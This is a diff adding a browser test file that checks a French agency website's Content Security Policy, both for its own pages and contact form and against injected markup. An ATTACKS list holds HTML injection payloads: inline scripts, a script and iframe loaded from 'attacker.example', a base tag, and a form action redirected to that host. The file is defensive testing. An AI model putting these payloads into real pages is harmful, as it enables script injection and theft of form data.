@@ -1,0 +1,205 @@
+import type { Page, Route } from 'playwright-core';
+import { describe, expect, inject, test } from 'vitest';
+import { browserPerFile } from './browser/browserPerFile';
+import {
+  accept,
+  answerContact,
+  breakForm,
+  CHUNKS,
+  contactForm,
+  MESSAGE,
+} from './browser/contactForm';
+import { makeGate } from './browser/gate';
+import { watchPolicy } from './browser/policyWatch';
+
+const PHONE = { viewport: { width: 375, height: 700 } };
+const CRASH = 'Unexpected Application Error!';
+
+const tabs = browserPerFile();
+
+async function open(address: string, prepare?: (page: Page) => Promise<unknown>) {
+  const page = await tabs.newPage(PHONE);
+  const refused = await watchPolicy(page);
+  await prepare?.(page);
+  await page.goto(address);
+  return { page, refused };
+}
+
+async function openForm(answer: (route: Route) => Promise<void>) {
+  const opened = await open('/contact', (page) => answerContact(page, answer));
+  return { ...opened, form: contactForm(opened.page) };
+}
+
+describe('nothing that the site does is refused by its own policy', () => {
+  test('every page, its images, its fonts and its menu', async () => {
+    const { page, refused } = await open('/');
+    for (const address of inject('siteAddresses')) {
+      await page.goto(address);
+      await page.evaluate(async () => {
+        for (const image of document.images) image.loading = 'eager';
+        const pictures = [...document.images].map((image) => image.decode());
+        await Promise.all([document.fonts.ready, ...pictures]);
+      });
+      await page.locator('header button[popovertarget]').click();
+      await page.getByRole('navigation', { name: 'Menu principal' }).waitFor();
+      expect({ address, refused }).toEqual({ address, refused: [] });
+    }
+  });
+
+  test('an unknown path, and what it logs', async () => {
+    const logged: string[] = [];
+    const { refused } = await open('/un/chemin/inconnu', async (page) => {
+      page.on('console', (message) => logged.push(message.text()));
+    });
+    await expect.poll(() => logged.join()).toContain('/un/chemin/inconnu');
+    expect(refused).toEqual([]);
+  });
+
+  test('the form: idle, invalid, sending, sent, its toast closed', async () => {
+    const gate = makeGate();
+    const { page, refused, form } = await openForm(async (route) => {
+      await gate.opened;
+      await accept(route);
+    });
+    await form.fill({ ...MESSAGE, email: 'zoe', phone: 'le soir' });
+    await form.button.click();
+    await page.getByText('Écrivez une adresse complète').waitFor();
+    await form.fill();
+    await form.button.click();
+    await expect.poll(() => form.label()).toBe('Envoi en cours...');
+    gate.open();
+    await page.getByText('Message envoyé').waitFor();
+    await page.getByRole('button', { name: 'Fermer' }).click();
+    await expect.poll(() => form.told()).toEqual({ status: '', alert: '' });
+    expect(refused).toEqual([]);
+  });
+
+  test('the form: failed, then crashed, then made anew', async () => {
+    const { page, refused, form } = await openForm((route) => route.fulfill({ status: 503 }));
+    await form.fill();
+    await form.button.click();
+    await page.getByText('Veuillez réessayer').waitFor();
+    const mend = await breakForm(page);
+    await form.button.click();
+    await page.getByText(CRASH).waitFor();
+    await mend();
+    await page.getByRole('button', { name: 'Réessayer' }).click();
+    await form.button.waitFor();
+    expect(refused).toEqual([]);
+  });
+
+  test('the form whose code does not come', async () => {
+    const { page, refused } = await open('/contact', (opened) =>
+      opened.route(CHUNKS, (route) => route.abort()),
+    );
+    const form = contactForm(page);
+    await form.fill();
+    await form.button.click();
+    await page.getByText(CRASH).waitFor();
+    expect(refused).toEqual([]);
+  });
+
+  test('the filter, down to the one that finds nothing', async () => {
+    const { page, refused } = await open('/realisations');
+    for (const tag of ['Branding', 'Social', 'Campagnes'])
+      await page.getByRole('button', { name: tag }).click();
+    await page.getByText('Aucune réalisation ne correspond').waitFor();
+    await page.getByRole('button', { name: 'Tous' }).click();
+    await expect.poll(() => page.locator('main article, main li a').count()).toBeGreaterThan(3);
+    expect(refused).toEqual([]);
+  });
+});
+
+/** What an attacker who can write into a page would write, and the directive that stops it. */
+const ATTACKS: readonly (readonly [directive: string, html: string])[] = [
+  ['script-src-elem', '<script>document.title = "attacked"</script>'],
+  ['script-src-elem', '<script src="https://attacker.example/a.js"></script>'],
+  ['script-src-attr', '<a href="#" id="attacked" onclick="document.title = this.id">a</a>'],
+  ['style-src-elem', '<style>body { display: none }</style>'],
+  ['style-src-attr', '<p style="display: none">a</p>'],
+  ['img-src', '<img alt="" src="https://attacker.example/a.png">'],
+  ['frame-src', '<iframe src="https://attacker.example/"></iframe>'],
+  ['base-uri', '<base href="https://attacker.example/">'],
+];
+
+/** How a host may send the policy. */
+const HOSTS = [
+  ['in the header and in the page', { header: true, meta: true }],
+  ['in the page alone', { header: false, meta: true }],
+  ['in the header alone', { header: true, meta: false }],
+] as const;
+
+describe.each(HOSTS)('with the policy %s', (_where, { header, meta }) => {
+  async function attack(address: string) {
+    return open(address, (page) =>
+      page.route(`**${address}`, async (route) => {
+        const response = await route.fetch();
+        const { 'content-security-policy': policy, ...headers } = response.headers();
+        const html = await response.text();
+        const attacks = ATTACKS.map(([, text]) => text).join('');
+        const attacked = (meta ? html : html.replace(/<meta http-equiv[^>]*>/, '')).replace(
+          '</main>',
+          `${attacks}</main>`,
+        );
+        expect(attacked.length).not.toBe(html.length);
+        await route.fulfill({
+          status: 200,
+          body: attacked,
+          headers: header && policy ? { ...headers, 'content-security-policy': policy } : headers,
+        });
+      }),
+    );
+  }
+
+  test.each(['/', '/contact'])('what is written into %s does nothing', async (address) => {
+    const { page, refused } = await attack(address);
+    await page.locator('#attacked').click();
+    for (const [directive] of ATTACKS)
+      await expect.poll(() => refused.join()).toContain(`${directive} `);
+    expect(await page.title()).not.toBe('attacked');
+    expect(await page.locator('body').isVisible()).toBe(true);
+    expect(await page.evaluate(() => document.baseURI)).toContain(inject('siteUrl'));
+  });
+
+  test('text does not become HTML or code', async () => {
+    const { page } = await attack('/contact');
+    const thrown = await page.evaluate(() => {
+      const results: string[] = [];
+      const attempt = (act: () => unknown) => {
+        try {
+          act();
+          results.push('done');
+        } catch (error) {
+          results.push(error instanceof Error ? error.name : 'unknown');
+        }
+      };
+      attempt(() => {
+        document.body.innerHTML = '<p>attacked</p>';
+      });
+      attempt(() => {
+        document.createElement('script').text = 'document.title = "attacked"';
+      });
+      attempt(() => setTimeout('document.title = "attacked"'));
+      return results;
+    });
+    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError']);
+  });
+
+  test('a form cannot be made to send elsewhere', async () => {
+    const { page, refused } = await attack('/contact');
+    const form = contactForm(page);
+    await form.fill();
+    await page.evaluate(() => {
+      const own = document.querySelector<HTMLFormElement>('main form');
+      if (own) own.action = 'https://attacker.example/';
+      own?.submit();
+    });
+    await expect.poll(() => refused.join()).toContain('form-action https://attacker.example');
+  });
+});
+
+test('no other site can show a page in a frame', async () => {
+  const page = await tabs.newPage();
+  await page.setContent(`<iframe src="${inject('siteUrl')}/contact"></iframe>`);
+  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+});
